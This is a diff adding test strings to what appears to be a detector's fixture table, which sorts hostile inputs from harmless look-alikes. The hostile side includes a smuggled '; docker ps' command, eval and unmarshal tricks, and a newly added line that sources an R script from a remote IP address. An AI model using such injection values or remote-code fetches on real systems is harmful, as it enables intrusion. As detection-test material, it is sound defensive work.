@@ -141,6 +141,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       "marshal.loads(b'a')",
       '@eval\n@input\nclass A: pass',
       '; docker ps',
+      'source("http://192.0.2.7/a.R")',
     ],
     honest: [
       'run "date" and "host" through the form',
@@ -154,6 +155,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'new "find" button',
       "sort(...items, 'name')",
       'docker ps shows nothing',
+      'source("https://example.com/lib.R")',
+      'load("model.RData")',
       '{{lookup map key}}',
       '@eval is a decorator of ours',
     ],
